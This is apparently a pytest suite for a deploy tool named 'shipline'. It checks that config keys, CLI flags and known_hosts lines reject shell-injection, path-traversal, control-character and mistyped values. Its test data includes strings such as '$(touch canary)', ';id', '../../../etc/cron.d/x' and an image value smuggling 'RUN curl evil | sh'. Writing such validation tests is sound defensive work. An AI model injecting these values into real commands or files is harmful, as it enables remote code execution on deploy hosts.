"""Hostile and mistyped values stop at the boundary: one line, exit 2, nothing done.

Every `[tool.shipline]` key a deploy writes into a command, a file name, an nginx or
compose file or a URL, and every command-line argument it takes, gets the same
matrix of shell metacharacters, control characters, path tricks, out-of-range and
mistyped values; each must be refused with one line that starts with the key path
(or the flag). Good values must still pass.
"""

from __future__ import annotations

import math
import socket
from pathlib import Path
from typing import Any

import pytest

from shipline import config, inputs, scaffold
from shipline.errors import ConfigError, ShiplineError, UsageError
from shipline.images import meta
from shipline.project import Project
from shipline.remote import KEY_ENV, KNOWN_HOSTS_ENV, HostSpec, Remote, RemoteError

DIGEST = "sha256:" + "0123456789abcdef" * 4

HOSTILE = [
    "$(touch canary)",
    ";id",
    "`id`",
    "a|b",
    "a&b",
    "a\nb",
    "a\tb",
    "a\rb",
    "..",
    "../../../etc",
    "",
    " ",
    "{}",
    "a\x00b",
    "a\x1b[2Jb",
    "a\u2028b",
]
"""Strings no key or flag below accepts as they are."""

WRONG_TYPES: list[Any] = [True, False, [], {}, None]
NUMBERS_NOT_FINITE: list[Any] = [math.nan, math.inf, -math.inf]


def parse_with(section: str, values: dict[str, Any]) -> config.Config:
    """Build the config from a parsed-pyproject dict, as TOML (with nan and inf) gives it."""
    return config.parse({"tool": {"shipline": {section: values}}}, Path("/nonexistent"))


def refused(error: ShiplineError, start: str) -> None:
    message = str(error)
    assert message.startswith(start), message
    assert len(message.splitlines()) == 1, message
    assert error.exit_code == 2


def config_refuses(section: str, key: str, value: Any, extra: dict[str, Any] | None = None) -> str:
    with pytest.raises(ConfigError) as caught:
        parse_with(section, {key: value, **(extra or {})})
    refused(caught.value, f"tool.shipline.{section}.{key}")
    return str(caught.value)


# `[tool.shipline]` keys: the matrix ------------------------------------------------------

STRING_KEYS: list[tuple[str, str, list[Any]]] = [
    (
        "deploy",
        "path",
        [
            "srv/app",
            "/",
            "//",
            "//srv/app",
            "/srv/app/../../etc",
            "/srv/./app",
            "/srv//app",
            "/srv/app//",
            "/srv/app$(touch canary)",
            "/srv/app;id",
            "/srv/`id`",
            "/srv/a|b",
            "/srv/a&b",
            "/srv/app\n",
            "/srv/a\tb",
            "/srv/a b",
            "/srv/'app'",
            '/srv/"app"',
            "/srv/$HOME",
            "/srv/app*",
            "~/app",
            "/srv/" + "a" * 200,
            1,
        ],
    ),
    (
        "deploy",
        "url",
        [
            "notaurl",
            "ftp://{host}/",
            "http://",
            "http:///x",
            "//{host}:8080",
            "http://{hostname}:8080",
            "http://{0}:8080",
            "http://{}:8080",
            "http://{host!r}:8080",
            "http://{host:>20}:8080",
            "http://{host.real}:8080",
            "http://{host",
            "http://host}",
            "http://{host}:99999",
            "http://{host}:0",
            "http://{host}:port",
            "http://{host}:8080\n",
            "http://{host}:8080/ ;id",
            "http://{host}:8080/\t",
            "http://[::1",
            1,
        ],
    ),
    (
        "deploy",
        "proxy-image",
        [
            "nginx:1.27-alpine\nRUN id",
            "nginx:1;id",
            "nginx:$(id)",
            "Nginx:1",
            "nginx:",
            "nginx:.1",
            "nginx:-1",
            "nginx@sha256:abc",
            "nginx@md5:" + "0" * 32,
            "/nginx",
            "nginx/",
            "a//b",
            "a..b",
            "-nginx",
            "nginx:" + "1" * 129,
            "a" * 256,
            "registry:port/a",
            1,
        ],
    ),
    ("deploy", "migrations", ["app{}x", "a/b", "../x", "a..b", "-a", "_a", "a" * 64, 1]),
    ("image", "username", ["a b", "a;b", "a\nb", "$(id)", "a" * 101, "a:b", "a/b", 1]),
    ("image", "name", ["Not An Image", "ghcr.io/acme/app:1.2", "a..b", "ghcr.io//a", 1]),
    ("smoke", "health-path", ["health", "/he alth", "/health\n", "/\x7f", "http://x/h", 1]),
]


@pytest.mark.parametrize(
    ("section", "key", "value"),
    [
        (section, key, value)
        for section, key, specific in STRING_KEYS
        for value in [*HOSTILE, *WRONG_TYPES, *specific]
        if not (key == "username" and value == "..")  # harmless, and a user name may have dots
    ],
)
def test_string_keys_refuse_hostile_values(section: str, key: str, value: Any) -> None:
    config_refuses(section, key, value)


@pytest.mark.parametrize(
    ("key", "value"),
    [("services", v) for v in [*HOSTILE, *WRONG_TYPES, "/a b", "a/b", 1]]
    + [("protected-paths", v) for v in [*HOSTILE, *WRONG_TYPES, "/a b", "items", 1]],
)
def test_list_keys_refuse_hostile_items(key: str, value: Any) -> None:
    section = "deploy" if key == "services" else "smoke"
    good = "app" if key == "services" else "/items"
    message = config_refuses(section, key, [good, value])
    assert message.startswith(f"tool.shipline.{section}.{key}[1]: expected")
    if not (key == "protected-paths" and value == []):  # none to check is fine
        config_refuses(section, key, value)  # on its own, not in a list


@pytest.mark.parametrize(
    "value", ["../../../etc/cron.d/x", "app{}x", "a b", "app;id", "..", "a..b", "a" * 64]
)
def test_services_refuse_names_that_are_no_file_or_upstream_name(value: str) -> None:
    message = config_refuses("deploy", "services", ["app", value])
    assert message.startswith("tool.shipline.deploy.services[1]: expected a compose service")


def test_services_refuse_empty_and_duplicates() -> None:
    assert "expected at least one service" in config_refuses("deploy", "services", [])
    message = config_refuses("deploy", "services", ["app", "worker", "app"])
    assert message == 'tool.shipline.deploy.services: "app" is listed twice; list each service once'
    config_refuses("deploy", "services", "not a list")
    config_refuses("deploy", "services", 3)


SECONDS_KEYS = [("deploy", "health-timeout"), ("deploy", "lock-ttl"), ("smoke", "timeout")]


@pytest.mark.parametrize(
    "value", [*NUMBERS_NOT_FINITE, -1, -0.5, 0, 0.0, 86401, 1e300, True, "5", "nan", None, []]
)
@pytest.mark.parametrize(("section", "key"), SECONDS_KEYS)
def test_seconds_refuse_nan_inf_negative_zero_and_wrong_types(
    section: str, key: str, value: Any
) -> None:
    message = config_refuses(section, key, value)
    assert f"tool.shipline.{section}.{key}: expected a number of seconds" in message


@pytest.mark.parametrize("value", [*NUMBERS_NOT_FINITE, -1, -0.001, 86401, False, "0"])
def test_drain_seconds_refuses_all_that_but_zero(value: Any) -> None:
    config_refuses("deploy", "drain-seconds", value)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("base-port", 0),
        ("base-port", 65536),
        ("base-port", -1),
        ("base-port", 80.5),
        ("base-port", True),
        ("base-port", "8001"),
        ("base-port", math.nan),
        ("proxy-port", 0),
        ("proxy-port", 70000),
        ("proxy-port", False),
        ("proxy-port", "80"),
        ("keep", 0),
        ("keep", -1),
        ("keep", 1.5),
        ("keep", True),
        ("keep", "3"),
        ("keep", math.inf),
        ("min-free-mb", -1),
        ("min-free-mb", 1.5),
        ("min-free-mb", True),
        ("min-free-mb", "1024"),
        ("min-free-mb", math.nan),
    ],
)
def test_whole_numbers_refuse_out_of_range_and_wrong_types(key: str, value: Any) -> None:
    config_refuses("deploy", key, value)


def test_slot_ports_must_fit_below_65536() -> None:
    message = config_refuses("deploy", "base-port", 65534, {"services": ["a", "b"]})
    assert "65534 to 65537, past 65535" in message
    assert "at most 65532" in message
    assert "tool.shipline.deploy.proxy-port" in message
    cfg = parse_with("deploy", {"base-port": 65532, "services": ["a", "b"]})
    assert cfg.deploy.base_port == 65532


@pytest.mark.parametrize(("base", "proxy"), [(8001, 8001), (8001, 8004), (8079, 8080)])
def test_slot_ports_must_not_take_the_proxy_port(base: int, proxy: int) -> None:
    message = config_refuses(
        "deploy", "base-port", base, {"proxy-port": proxy, "services": ["a", "b"]}
    )
    assert f"tool.shipline.deploy.proxy-port {proxy}" in message
    assert "change base-port or proxy-port" in message


def test_slot_ports_next_to_the_proxy_port_pass() -> None:
    below = parse_with("deploy", {"base-port": 8076, "proxy-port": 8080, "services": ["a", "b"]})
    above = parse_with("deploy", {"base-port": 8081, "proxy-port": 8080, "services": ["a", "b"]})
    assert (below.deploy.base_port, above.deploy.base_port) == (8076, 8081)


# `[tool.shipline]` keys: good values -----------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("/srv/app", "/srv/app"),
        ("/srv/app/", "/srv/app"),
        ("/opt/web", "/opt/web"),
        ("/home/deploy/apps/my_app-2.0@blue+x", "/home/deploy/apps/my_app-2.0@blue+x"),
        ("/" + "a" * 199, "/" + "a" * 199),
    ],
)
def test_good_paths(value: str, expected: str) -> None:
    assert parse_with("deploy", {"path": value}).deploy.path == expected


@pytest.mark.parametrize(
    "value",
    [
        "ghcr.io/acme/app:1.2",
        "127.0.0.1:5000/test/nginx:1",
        "nginx:1.27-alpine",
        "nginx",
        "shipline/nginx:bookworm",
        f"registry.local/a/b@{DIGEST}",
        f"localhost:5000/a_b/c__d/e--f:v1.2_3@{DIGEST}",
        "[::1]:5000/a:1",
        "GHCR.io/acme/app:Latest",
    ],
)
def test_good_proxy_images(value: str) -> None:
    assert parse_with("deploy", {"proxy-image": value}).deploy.proxy_image == value


@pytest.mark.parametrize(
    "value",
    [
        "http://{host}:8080",
        "https://{host}",
        "http://{host}:8080/",
        "https://{host}/base/path",
        "http://localhost:8080",
        "http://{host}:8080/{{literal}}",
    ],
)
def test_good_urls(value: str) -> None:
    assert parse_with("deploy", {"url": value}).deploy.url == value


def test_good_deploy_and_smoke_values_together() -> None:
    cfg = config.parse(
        {
            "tool": {
                "shipline": {
                    "image": {"username": "github-actions[bot]", "name": "GHCR.io/Acme/App"},
                    "deploy": {
                        "services": ["app", "worker"],
                        "migrations": "migrate",
                        "drain-seconds": 0,
                        "health-timeout": 0.5,
                        "lock-ttl": 30,
                        "keep": 1,
                        "min-free-mb": 0,
                    },
                    "smoke": {"health-path": "/health?deep=1", "protected-paths": ["/items"]},
                }
            }
        },
        Path("/nonexistent"),
    )
    assert cfg.image.username == "github-actions[bot]"
    assert cfg.image.name == "ghcr.io/acme/app"
    assert cfg.deploy.services == ("app", "worker")
    assert cfg.deploy.migrations == "migrate"
    assert (cfg.deploy.drain_seconds, cfg.deploy.health_timeout) == (0.0, 0.5)
    assert cfg.deploy.lock_ttl == 30.0
    assert (cfg.deploy.keep, cfg.deploy.min_free_mb) == (1, 0)
    assert cfg.smoke.health_path == "/health?deep=1"


def test_lock_ttl_defaults_to_a_minute() -> None:
    assert parse_with("deploy", {}).deploy.lock_ttl == 60.0
    assert config.parse({}, Path("/nonexistent")).deploy.lock_ttl == 60.0


# Image names derived from the environment or the project -------------------------------


@pytest.mark.parametrize(
    ("environ", "project", "start"),
    [
        ({"GITHUB_REPOSITORY": "acme/.github"}, "web", 'GITHUB_REPOSITORY "acme/.github"'),
        ({"GITHUB_REPOSITORY": "acme/a..b"}, "web", 'GITHUB_REPOSITORY "acme/a..b"'),
        ({"GITHUB_REPOSITORY": "acme/x\ny"}, "web", 'GITHUB_REPOSITORY "acme/x\\ny"'),
        ({"GITHUB_REPOSITORY": "acme/$(id)"}, "web", 'GITHUB_REPOSITORY "acme/$(id)"'),
        ({}, "my_-app", '[project].name "my_-app"'),
        ({}, "a..b", '[project].name "a..b"'),
        ({}, "web;id", '[project].name "web;id"'),
    ],
)
def test_derived_image_names_docker_refuses(
    environ: dict[str, str], project: str, start: str
) -> None:
    cfg = config.parse({"project": {"name": project}}, Path("/nonexistent"))
    with pytest.raises(ConfigError) as caught:
        meta.image_name(cfg, environ)
    refused(caught.value, start)
    assert "set [tool.shipline.image] name" in str(caught.value)


def test_derived_image_names_that_pass() -> None:
    cfg = config.parse({"project": {"name": "Web_App.Two"}}, Path("/nonexistent"))
    assert meta.image_name(cfg, {}) == "web_app.two"
    assert meta.image_name(cfg, {"GITHUB_REPOSITORY": "Acme/Web-App"}) == "ghcr.io/acme/web-app"


# Command-line arguments ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        *HOSTILE,
        "1$(touch x)",
        "a;b",
        ".1",
        "-1",
        "v1/2",
        "1.0\n",
        "a" * 129,
        "sha256:abc",
        "sha256:" + "A" * 64,
        "1 2",
    ],
)
def test_version_refuses(text: str) -> None:
    with pytest.raises(UsageError) as caught:
        inputs.version(text)
    refused(caught.value, f"--version {text!r}" if len(text) <= 100 else "--version '")


def test_version_accepts_tags_and_digests_and_names_its_flag() -> None:
    for good in ("1.2.3", "v1.2.3", "sha-0123abc", "latest", "_x", "a" * 128, DIGEST):
        assert inputs.version(good) == good
    with pytest.raises(UsageError) as caught:
        inputs.version("../x", "--to")
    refused(caught.value, "--to '../x'")


@pytest.mark.parametrize(
    "text",
    [*HOSTILE, "0", "0%", "150%", "101%", "-1", "abc", "1.5", "4", "99999999999", "5 ", "+1", "½"],
)
def test_batch_refuses(text: str) -> None:
    with pytest.raises(UsageError) as caught:
        inputs.batch(text, 3)
    refused(caught.value, f"--batch {text!r}")


def test_batch_says_how_many_hosts_there_are() -> None:
    with pytest.raises(UsageError, match=r"from 1 to 3 \(there are 3 hosts\)"):
        inputs.batch("4", 3)
    with pytest.raises(UsageError, match=r"there is 1 host"):
        inputs.batch("2", 1)
    with pytest.raises(UsageError, match=r"from 1% to 100%"):
        inputs.batch("150%", 3)


@pytest.mark.parametrize(
    ("text", "hosts", "size"),
    [("1", 3, 1), ("3", 3, 3), ("25%", 8, 2), ("10%", 3, 1), ("100%", 4, 4), ("50%", 5, 2)],
)
def test_batch_sizes(text: str, hosts: int, size: int) -> None:
    assert inputs.batch(text, hosts) == size


@pytest.mark.parametrize(
    "text", [*HOSTILE, "abc", "-5", "nan", "inf", "-inf", "1e3", "86401", "1_0", "0x10", "5s"]
)
def test_lock_wait_refuses(text: str) -> None:
    with pytest.raises(UsageError) as caught:
        inputs.lock_wait(text)
    refused(caught.value, f"--lock-wait {text!r}")


def test_lock_wait_accepts_seconds() -> None:
    assert [inputs.lock_wait(t) for t in ("0", "30", "2.5", ".5", "86400")] == [
        0.0,
        30.0,
        2.5,
        0.5,
        86400.0,
    ]


@pytest.mark.parametrize(
    "text",
    [
        *HOSTILE,
        "python:3.12-slim\nRUN curl evil | sh",
        "python:3.12-slim AS x",
        "python:$(id)",
        "Python:3.12",
        "python:",
        "python@sha256:abc",
        "a" * 256,
    ],
)
def test_image_references_refused(text: str) -> None:
    with pytest.raises(UsageError) as caught:
        inputs.image_reference(text, "--base-image")
    refused(caught.value, "--base-image ")
    with pytest.raises(UsageError) as caught:
        inputs.image_name(text, "--image")
    refused(caught.value, "--image ")


def test_image_names_and_references_accepted() -> None:
    assert inputs.image_reference("python:3.12-slim", "--base-image") == "python:3.12-slim"
    assert inputs.image_reference(f"ghcr.io/a/b:1@{DIGEST}", "x") == f"ghcr.io/a/b:1@{DIGEST}"
    assert inputs.image_name("ghcr.io/acme/app", "--image") == "ghcr.io/acme/app"
    with pytest.raises(UsageError):
        inputs.image_name("ghcr.io/acme/app:1", "--image")


def sample_project(root: Path) -> Project:
    return Project(
        root=root,
        name="my-app",
        package="my_app",
        package_dir="src/my_app",
        python="3.12",
        entry="my_app.main:app",
        asgi=True,
        framework="fastapi",
        health_path="/health",
        health_found=True,
        has_httpx=True,
        missing_tiers=(),
        has_shipline_table=False,
    )


@pytest.mark.parametrize("base", ["python:3.12-slim\nRUN id", "", "python 3", "$(id)"])
def test_init_refuses_a_base_image_that_is_no_reference(tmp_path: Path, base: str) -> None:
    with pytest.raises(UsageError) as caught:
        scaffold.plan(sample_project(tmp_path), base)
    refused(caught.value, "--base-image ")
    assert list(tmp_path.iterdir()) == []


def test_init_renders_a_good_base_image(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "my-app"\n')
    planned = scaffold.plan(sample_project(tmp_path), "127.0.0.1:5000/py:3.12-slim")
    dockerfile = next(a for a in planned if a.path == "Dockerfile")
    assert "ARG BASE_IMAGE=127.0.0.1:5000/py:3.12-slim\n" in dockerfile.content


# Known hosts -----------------------------------------------------------------------------

ED25519 = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
GOOD_LINE = f"127.0.0.1 ssh-ed25519 {ED25519}"


@pytest.fixture
def closed_port(monkeypatch: pytest.MonkeyPatch) -> int:
    """A port on 127.0.0.1 nothing listens on; no key or known hosts from the environment."""
    monkeypatch.delenv(KEY_ENV, raising=False)
    monkeypatch.delenv(KNOWN_HOSTS_ENV, raising=False)
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
    return port


def connect(port: int, known_hosts: Path) -> None:
    Remote(HostSpec("deploy", "127.0.0.1", port), known_hosts=known_hosts, timeout=2).connect()


BAD_LINES = [
    ("garbage", "not 'host key-type base64-key'"),
    ("host ssh-ed25519 !!!notbase64", "the key does not decode"),
    ("host ssh-ed25519 AAAA", "the key does not decode"),
    ("host ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ==", "the key does not decode"),
    ("@revoked * ssh-ed25519 " + ED25519, "paramiko cannot honour '@revoked'"),
]


@pytest.mark.parametrize(("line", "problem"), BAD_LINES)
def test_garbage_in_the_known_hosts_variable(
    closed_port: int, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, line: str, problem: str
) -> None:
    monkeypatch.setenv(KNOWN_HOSTS_ENV, f"{GOOD_LINE}\n{line}\n")
    with pytest.raises(UsageError) as caught:
        connect(closed_port, tmp_path / "absent")
    refused(caught.value, f"{KNOWN_HOSTS_ENV} line 2: {problem}")
    assert f"; fix the {KNOWN_HOSTS_ENV} variable" in str(caught.value)


def test_an_unknown_key_type_in_the_variable_is_refused(
    closed_port: int, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv(KNOWN_HOSTS_ENV, "host sk-ssh-ed25519@openssh.com AAAA")
    with pytest.raises(UsageError) as caught:
        connect(closed_port, tmp_path / "absent")
    refused(caught.value, f"{KNOWN_HOSTS_ENV} line 1: key type 'sk-ssh-ed25519@openssh.com'")


@pytest.mark.parametrize(("line", "problem"), BAD_LINES)
def test_garbage_in_the_known_hosts_file(
    closed_port: int, tmp_path: Path, line: str, problem: str
) -> None:
    known_hosts = tmp_path / "known_hosts"
    known_hosts.write_text(f"# mine\n\n{line}\n{GOOD_LINE}\n")
    with pytest.raises(UsageError) as caught:
        connect(closed_port, known_hosts)
    refused(caught.value, f"{known_hosts} line 3: {problem}")
    assert "; fix the file" in str(caught.value)


def test_a_binary_known_hosts_file(closed_port: int, tmp_path: Path) -> None:
    known_hosts = tmp_path / "known_hosts"
    known_hosts.write_bytes(b"\x97\xff\x00\n" * 10)
    with pytest.raises(UsageError) as caught:
        connect(closed_port, known_hosts)
    refused(caught.value, f"{known_hosts}: not a known_hosts file (not text)")


def test_a_directory_as_known_hosts(closed_port: int, tmp_path: Path) -> None:
    with pytest.raises(UsageError) as caught:
        connect(closed_port, tmp_path)
    refused(caught.value, f"{tmp_path}: not a known_hosts file but a directory")


def test_good_known_hosts_get_as_far_as_connecting(
    closed_port: int, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Comments, blank lines, runs of blanks, certificates and unknown key types in the
    user's own file are what OpenSSH writes or tolerates: the next step, the TCP
    connection, is reached (and fails: nothing listens)."""
    known_hosts = tmp_path / "known_hosts"
    known_hosts.write_text(
        f"# comment\n\n{GOOD_LINE}\nother  ssh-ed25519\t{ED25519}\n"
        f"[127.0.0.1]:2222 ssh-ed25519 {ED25519}\n"
        f"|1|F1E1KeoE/eEWhi10WpGv4OdiO6Y=|3988QV0VE8wmZL7suNrYQLITLCg= ssh-ed25519 {ED25519}\n"
        f"@cert-authority *.example ssh-ed25519 {ED25519}\n"
        "host sk-ssh-ed25519@openssh.com AAAA\n"
    )
    monkeypatch.setenv(KNOWN_HOSTS_ENV, f"\n# from CI\n{GOOD_LINE}\n")
    with pytest.raises(RemoteError, match="cannot reach"):
        connect(closed_port, known_hosts)
